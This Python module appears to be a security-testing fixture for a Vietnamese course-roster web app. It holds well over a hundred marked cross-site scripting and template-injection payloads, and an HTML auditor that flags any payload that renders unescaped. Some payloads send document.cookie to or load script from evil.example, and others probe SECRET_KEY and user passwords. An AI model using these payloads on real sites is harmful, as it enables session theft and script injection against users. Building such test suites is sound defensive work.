"""Cross-site scripting payloads, each with a unique marker, and an HTML auditor.

Every payload carries its marker inside the part that would run (`alert('XSSQABC')`),
so that injected markup can be told from the site's own: a marker in an `on…`
attribute, in an executable <script>, or in an element's attributes means a payload
escaped its text. Markers are letters only, so they also pass the name checks that
refuse digits (courses.roster.cleaning).
"""

import itertools
import re
import string
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser

MARKER_PREFIX = "XSSQ"
MARKER = re.compile(MARKER_PREFIX + r"[A-Z]{3}", re.IGNORECASE)
_SLOT = "@@"


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str
    family: str

    @property
    def has_digits(self) -> bool:
        return any(ch.isdigit() for ch in self.text)

    @property
    def opens_tag(self) -> bool:
        return "<" in self.text


# --- The vectors; "@@" is where the marker goes ------------------------------------

_SCRIPT = [
    "<script>alert('@@')</script>",
    '<SCRIPT>alert("@@")</SCRIPT>',
    "<ScRiPt>prompt('@@')</sCrIpT>",
    "<script src=//evil.example/@@.js></script>",
    "<script>/*@@*/alert(document.cookie)</script>",
    "<scr<script>ipt>alert('@@')</scr</script>ipt>",
    "</script><script>alert('@@')</script>",
    "<<script>alert('@@');//<</script>",
    '<script type="module">alert("@@")</script>',
    "<script\ttype=text/javascript>alert('@@')</script>",
    "<script>eval(atob('@@'))</script>",
    "<svg><script>alert('@@')</script></svg>",
    "<svg><script href=data:,alert('@@') />",
    "<math><script>alert('@@')</script></math>",
    "<script>throw onerror=alert,'@@'</script>",
    "<script>top['al'+'ert']('@@')</script>",
    "<script>window.location='//evil.example/?'+document.cookie+'@@'</script>",
    "<xmp><script>alert('@@')</script></xmp>",
    "<noscript><script>alert('@@')</script></noscript>",
    "<template><script>alert('@@')</script></template>",
]

_HANDLERS = [
    "<img src=x onerror=alert('@@')>",
    '<img src="x" onerror="alert(\'@@\')">',
    "<IMG SRC=x OnErRoR=alert('@@')>",
    "<img/src=x/onerror=alert('@@')>",
    "<img src=x onerror=alert`@@`>",
    "<img src=x:alert(alt) onerror=eval(src)//@@ alt=x>",
    "<img src=x onerror=&#97;lert('@@')>",
    "<img src onerror=alert('@@')//",
    "<svg onload=alert('@@')>",
    "<svg/onload=alert('@@')>",
    "<SVG ONLOAD=alert('@@')>",
    "<svg><animate onbegin=alert('@@') attributeName=x dur=1s>",
    "<svg><set onbegin=alert('@@') attributename=x to=y>",
    "<body onload=alert('@@')>",
    "<body onpageshow=alert('@@')>",
    "<BODY ONLOAD=alert('@@')>",
    "<details open ontoggle=alert('@@')>",
    "<details/open/ontoggle=alert('@@')>",
    "<DETAILS OPEN ONTOGGLE=alert('@@')>",
    "<input autofocus onfocus=alert('@@')>",
    "<select autofocus onfocus=alert('@@')></select>",
    "<textarea autofocus onfocus=alert('@@')></textarea>",
    "<keygen autofocus onfocus=alert('@@')>",
    "<video><source onerror=alert('@@')></video>",
    "<audio src=x onerror=alert('@@')>",
    "<marquee onstart=alert('@@')>chữ chạy</marquee>",
    "<div onmouseover=\"alert('@@')\">di chuột</div>",
    "<a onmouseover=alert('@@')>liên kết</a>",
    "<iframe onload=alert('@@')></iframe>",
    "<object data=x onerror=alert('@@')></object>",
    "<math><mtext><img src=x onerror=alert('@@')></mtext></math>",
    "<style onload=alert('@@')></style>",
    "<x contenteditable onblur=alert('@@')>rời ô</x>",
    "<xss id=x tabindex=1 onfocus=alert('@@')></xss>",
    "<input type=image src=x onerror=alert('@@')>",
    "<frameset onload=alert('@@')>",
    "<html onmouseover=alert('@@')>",
    "<table><td onclick=alert('@@')>ô</td></table>",
    "<button onclick=alert('@@')>Nộp bài</button>",
    "<form oninput=alert('@@')><input></form>",
    "<img src=x onerror\t=\talert('@@')>",
    "<img src=x onerror\n=alert('@@')>",
    "<svg><a onclick=alert('@@')><text>bấm</text></a></svg>",
    "<body onhashchange=alert('@@')>",
    "<img src='x' onerror='alert(\"@@\")'>",
    "<img src=`x` onerror=`alert('@@')`>",
]

_SCHEMES = [
    "<a href=\"javascript:alert('@@')\">bấm vào đây</a>",
    "<a href=\"JaVaScRiPt:alert('@@')\">x</a>",
    "<a href=\"&#106;avascript:alert('@@')\">x</a>",
    "<a href=\"&#x6A;avascript:alert('@@')\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert('@@')\">x</a>",
    "<a href=\"java&#x09;script:alert('@@')\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('@@')\">x</a>",
    "<a href=\" javascript:alert('@@')\">x</a>",
    "<a href=javascript&colon;alert('@@')>x</a>",
    "<a href=\"javas&Tab;cript:alert('@@')\">x</a>",
    "<a href=\"vbscript:msgbox('@@')\">x</a>",
    "<a href=\"VBScript:MsgBox('@@')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@@">x</a>',
    "<a href=\"data:text/html,<script>alert('@@')</script>\">x</a>",
    "<a href=\"DATA:TEXT/HTML,<script>alert('@@')</script>\">x</a>",
    "<iframe src=\"javascript:alert('@@')\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert('@@')</script>\"></iframe>",
    "<iframe srcdoc=\"<script>alert('@@')</script>\"></iframe>",
    "<form action=\"javascript:alert('@@')\"><input type=submit></form>",
    "<form><button formaction=javascript:alert('@@')>Gửi</button></form>",
    "<object data=\"javascript:alert('@@')\"></object>",
    "<embed src=\"javascript:alert('@@')\">",
    "<svg><a xlink:href=\"javascript:alert('@@')\"><text>x</text></a></svg>",
    "<math><a xlink:href=\"javascript:alert('@@')\">x</a></math>",
    "<base href=\"javascript:alert('@@')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'@@\')">',
    "<isindex action=javascript:alert('@@') type=image>",
    "<link rel=stylesheet href=\"javascript:alert('@@')\">",
    "<table background=\"javascript:alert('@@')\"></table>",
    "<img src=\"jav\tascript:alert('@@')\">",
    "<img dynsrc=\"javascript:alert('@@')\">",
    "<body background=\"javascript:alert('@@')\">",
    "<div style=\"background:url(javascript:alert('@@'))\">x</div>",
    "<div style=\"width:expression(alert('@@'))\">x</div>",
    "javascript:alert('@@')",
    "JAVASCRIPT:alert('@@')",
    " javascript:alert('@@')",
    "java\nscript:alert('@@')",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('@@')",
    'vbscript:msgbox("@@")',
    "data:text/html,<script>alert('@@')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnQCcpPC9zY3JpcHQ+#@@",
]

_BREAKOUTS = [
    "\" onmouseover=\"alert('@@')",
    "' onmouseover='alert(\"@@\")",
    "\"><script>alert('@@')</script>",
    "'><script>alert('@@')</script>",
    '" autofocus onfocus="alert(\'@@\')" x="',
    "' autofocus onfocus='alert(`@@`)' x='",
    "` onmouseover=alert('@@') `",
    "\"/><svg onload=alert('@@')>",
    "\" style=\"x:expression(alert('@@'))",
    "\"><img src=x onerror=alert('@@')>",
    "</textarea><script>alert('@@')</script>",
    "</title><script>alert('@@')</script>",
    "</style><script>alert('@@')</script>",
    "--><script>alert('@@')</script>",
    "]]><script>alert('@@')</script>",
    "</option></select><img src=x onerror=alert('@@')>",
    '"onfocus="alert(\'@@\')"autofocus="',
    "\\\"-alert('@@')-\\\"",
    "';alert('@@');//",
    "\";alert('@@');//",
    "</script><svg onload=alert('@@')>",
    "\u2028alert('@@')\u2029",
    "</noscript><img src=x onerror=alert('@@')>",
    "<!--<img src=\"--><img src=x onerror=alert('@@')//\">",
    '<a href="#" title="\'><img src=x onerror=alert(\'@@\')>">x</a>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('@@')>\">",
    "<!--region:user-nav--><script>alert('@@')</script><!--/region:user-nav-->",
    "</li></ol><script>alert('@@')</script>",
    "</td></tr></table><img src=x onerror=alert('@@')>",
    "\"><!--<script>alert('@@')</script>-->",
    'x" data-x="" onclick="alert(\'@@\')',
    "' || alert('@@') || '",
    '<div title="" onmouseover="alert(\'@@\')">',
    '"></a><a href="javascript:alert(\'@@\')">',
    "\">\n<script>\nalert('@@')\n</script>",
    "'\"><img src=x onerror=alert('@@')>",
]

_TEMPLATES = [
    "{{ '@@'|slice:':0' }}",
    "{% if 0 %}@@{% endif %}",
    "{{ request.user.password }}@@",
    "{% debug %}@@",
    "{{ settings.SECRET_KEY }}@@",
    "{{7*7}}@@",
    "${7*7}@@",
    "#{7*7}@@",
    "<%= 7*7 %>@@",
    "{{constructor.constructor('alert(\"@@\")')()}}",
    "{{$on.constructor('alert(\"@@\")')()}}",
    "[[${7*7}]]@@",
    "{@@}",
    "{ho_ten}@@",
    "{{@@}}",
    "{% load static %}@@",
    "{% include 'base.html' %}@@",
    "{{ block.super }}@@",
    "%(name)s@@",
    "{0.__class__}@@",
    "{ho_ten.__class__.__init__.__globals__}@@",
    "{% templatetag openblock %}@@",
    "{{ '<script>alert(\"@@\")</script>'|safe }}",
    "{% autoescape off %}<script>alert('@@')</script>{% endautoescape %}",
    "{{ '@@'|safe }}<svg onload=alert('@@')>",
    "${alert('@@')}",
    "`${alert('@@')}`",
    "{{= alert('@@') }}",
]

_UNICODE = [
    "\uff1cscript\uff1ealert('@@')\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert('@@')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('@@')%3C/script%3E",
    "&lt;script&gt;alert('@@')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert('@@')&amp;gt;",
    "\u202e<script>alert('@@')</script>\u202c",
    "<scr\u200bipt>alert('@@')</scr\u200bipt>",
    "<img src=x onerror=alert('@@')\u200b>",
    "\u226escript\u226falert('@@')\u226e/script\u226f",
    "<\u0338img src=x onerror=alert('@@')>",
    "<\u0455cript>alert('@@')</\u0455cript>",
    "+ADw-script+AD4-alert('@@')+ADw-/script+AD4-",
    "\ufeff<script>alert('@@')</script>",
    "<img src=x one\u0301rror=alert('@@')>",
    "\u00ab<script>alert('@@')</script>\u00bb",
    "<svg onload=alert('@@')>\U0001f600",
    "<i\u200dmg src=x onerror=alert('@@')>",
    "\u3008script\u3009alert('@@')\u3008/script\u3009",
]

# Vietnamese text around a vector, as it would come in a real roster or question.
_VIETNAMESE = [
    "Nguyễn Thị Hoà <script>alert('@@')</script>",
    "Lò Văn Ơn\"><img src=x onerror=alert('@@')>",
    "Đặng Thị Ánh' onmouseover='alert(\"@@\")",
    "Nguye\u0302\u0303n Thi\u0323 Lan <svg onload=alert('@@')>",
    "Hà Giang <details open ontoggle=alert('@@')>",
    "Thôn Nà Liềm <a href=\"javascript:alert('@@')\">xem</a>",
    "Sổ A0 ghi gì? <img src=x onerror=alert('@@')>",
    "Câu hỏi: {{ '@@'|slice:':0' }} — đúng hay sai?",
    "Hộ gia đình </textarea><script>alert('@@')</script>",
    "Xã Lăng Can, Lâm Bình <body onload=alert('@@')>",
    'Tháng báo cáo " autofocus onfocus="alert(\'@@\')" x="',
    "Phiếu thu tin P0/CTV <iframe src=\"javascript:alert('@@')\"></iframe>",
    "Mã túy ` onmouseover=alert('@@') `",
    "Bà Triệu Thị Mỷ <input autofocus onfocus=alert('@@')>",
    "Ông Hoàng A Páo ';alert('@@');//",
    "Giàng Seo Phử <svg/onload=alert('@@')>",
    "Chị H. 24 tuổi <marquee onstart=alert('@@')>",
    "Đúng <a href=\"&#106;avascript:alert('@@')\">Sai</a>",
    "Kết quả: Đạt <script>alert('@@')</script>",
    "Trạm y tế xã <form action=\"javascript:alert('@@')\"><input type=submit></form>",
]

_FAMILIES = {
    "script": _SCRIPT,
    "handler": _HANDLERS,
    "scheme": _SCHEMES,
    "breakout": _BREAKOUTS,
    "template": _TEMPLATES,
    "unicode": _UNICODE,
    "vietnamese": _VIETNAMESE,
}


def _case_variant(text: str) -> str:
    """Tag and attribute names in alternating case: <ImG SrC=x OnErRoR=...>."""

    def flip(match: re.Match[str]) -> str:
        word = match.group(0)
        return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(word))

    return re.sub(r"(?<=<)[a-z]+|\bon[a-z]+(?==)|\bsrc\b|\bhref\b", flip, text)


def _markers() -> Iterator[str]:
    for letters in itertools.product(string.ascii_uppercase, repeat=3):
        yield MARKER_PREFIX + "".join(letters)


def _build() -> tuple[Payload, ...]:
    vectors: list[tuple[str, str]] = [
        (family, vector) for family, items in _FAMILIES.items() for vector in items
    ]
    # Mixed-case copies of the tag-and-handler vectors, which filters keyed on
    # lower-case names miss.
    vectors += [
        ("case", variant)
        for family in ("handler", "scheme")
        for vector in _FAMILIES[family]
        if (variant := _case_variant(vector)) != vector
    ]
    seen: set[str] = set()
    payloads = []
    markers = _markers()
    for family, vector in vectors:
        if vector in seen:
            continue
        seen.add(vector)
        marker = next(markers)
        payloads.append(Payload(marker, vector.replace(_SLOT, marker), family))
    return tuple(payloads)


PAYLOADS: tuple[Payload, ...] = _build()
BY_MARKER = {payload.marker: payload for payload in PAYLOADS}


def markers_of(payloads: Iterable[Payload]) -> set[str]:
    return {payload.marker for payload in payloads}


def pack(
    payloads: Iterable[Payload], *, limit: int, separator: str = " · "
) -> list[tuple[str, list[Payload]]]:
    """Payloads joined into strings of at most `limit` characters, with what each
    holds; a payload longer than the limit on its own is left out."""
    packed: list[tuple[str, list[Payload]]] = []
    text, held = "", []
    for payload in payloads:
        if len(payload.text) > limit:
            continue
        candidate = f"{text}{separator}{payload.text}" if held else payload.text
        if len(candidate) > limit:
            packed.append((text, held))
            text, held = payload.text, [payload]
        else:
            text, held = candidate, [*held, payload]
    if held:
        packed.append((text, held))
    return packed


# --- Auditing rendered HTML -------------------------------------------------------

_EXECUTABLE_SCRIPT_TYPES = {
    "",
    "text/javascript",
    "application/javascript",
    "application/ecmascript",
    "text/ecmascript",
    "module",
}
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "dynsrc",
    "lowsrc",
    "codebase",
    "cite",
    "longdesc",
    "ping",
    "manifest",
    "icon",
}
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "livescript:")
# Attributes that carry user text on the site's own elements: a marker there is the
# payload shown as text, as it should be. (A form's address may repeat a search.)
_TEXT_ATTRIBUTES = {
    "value",
    "title",
    "alt",
    "placeholder",
    "label",
    "content",
    "download",
    "action",
}
_ACTIVE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "link",
    "meta",
    "form",
    "svg",
    "math",
    "img",
    "image",
    "video",
    "audio",
    "source",
    "body",
    "html",
    "details",
    "marquee",
    "isindex",
    "keygen",
    "template",
    "animate",
    "set",
    "xss",
    "x",
}


def _url_scheme(value: str) -> str:
    """What a browser reads as the scheme: no whitespace or controls, lower case."""
    cleaned = "".join(ch for ch in value if ch > " " and ch != "\x7f")
    return cleaned.lower()


def _is_dangerous_url(value: str) -> bool:
    return _url_scheme(value).startswith(_DANGEROUS_SCHEMES)


@dataclass(frozen=True)
class Finding:
    kind: str
    detail: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.detail[:160]}"


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[Finding] = []
        self.seen_markers: set[str] = set()
        self._in: str | None = None
        self._script_is_executable = False

    def _note_markers(self, text: str) -> set[str]:
        found = {match.upper() for match in MARKER.findall(text)}
        self.seen_markers |= found
        return found

    def handle_starttag(self, tag, attrs):
        self._check_element(tag, attrs)
        if tag in ("script", "style"):
            self._in = tag
            script_type = (dict(attrs).get("type") or "").strip().lower()
            self._script_is_executable = script_type in _EXECUTABLE_SCRIPT_TYPES

    def handle_startendtag(self, tag, attrs):
        self._check_element(tag, attrs)

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        markers = self._note_markers(data)
        if not markers:
            return
        if self._in == "script" and self._script_is_executable:
            self.findings.append(Finding("marker inside an executable <script>", data))
        elif self._in == "style":
            self.findings.append(Finding("marker inside a <style> element", data))

    def handle_comment(self, data):
        self._note_markers(data)

    def handle_decl(self, decl):
        if self._note_markers(decl):
            self.findings.append(Finding("marker in a declaration", decl))

    def unknown_decl(self, data):
        if self._note_markers(data):
            self.findings.append(Finding("marker in markup declaration", data))

    def handle_pi(self, data):
        if self._note_markers(data):
            self.findings.append(Finding("marker in a processing instruction", data))

    def _check_element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self._note_markers(tag):
            self.findings.append(Finding("element named by a payload", f"<{tag}>"))
        attributes = {name: value or "" for name, value in attrs}
        is_refresh = attributes.get("http-equiv", "").lower() == "refresh"
        for name, value in attrs:
            value = value or ""
            here = f"<{tag} {name}={value!r}>"
            in_name = self._note_markers(name)
            in_value = self._note_markers(value)
            if in_name:
                self.findings.append(Finding("attribute named by a payload", here))
            if name.startswith("on") and (in_name or in_value):
                self.findings.append(Finding("event handler from a payload", here))
            if name in _URL_ATTRIBUTES and _is_dangerous_url(value):
                self.findings.append(Finding("script URL", here))
            if name == "srcdoc" and in_value:
                self.findings.append(Finding("srcdoc from a payload", here))
            if name == "style" and in_value:
                self.findings.append(Finding("style attribute from a payload", here))
            if is_refresh and name == "content":
                target = value.split("url=", 1)[-1] if "url=" in value.lower() else ""
                if _is_dangerous_url(target):
                    self.findings.append(Finding("script URL in a refresh", here))
            if (
                in_value
                and tag in _ACTIVE_TAGS
                and name not in _TEXT_ATTRIBUTES
                and not name.startswith(("data-", "aria-"))
            ):
                self.findings.append(Finding("active element from a payload", here))


@dataclass(frozen=True)
class Audit:
    findings: list[Finding]
    seen_markers: set[str]


def audit(html: str, payloads: Iterable[Payload] = PAYLOADS) -> Audit:
    """What in `html` came from a payload and would run, and which markers it shows.

    Besides the parsed checks, a payload that opens a tag must never appear in the
    source as written: shown as text, its `<` is escaped.
    """
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    findings = list(auditor.findings)
    for payload in payloads:
        if payload.opens_tag and payload.marker in html and payload.text in html:
            findings.append(Finding("payload in the source unescaped", payload.text))
    return Audit(findings, auditor.seen_markers)
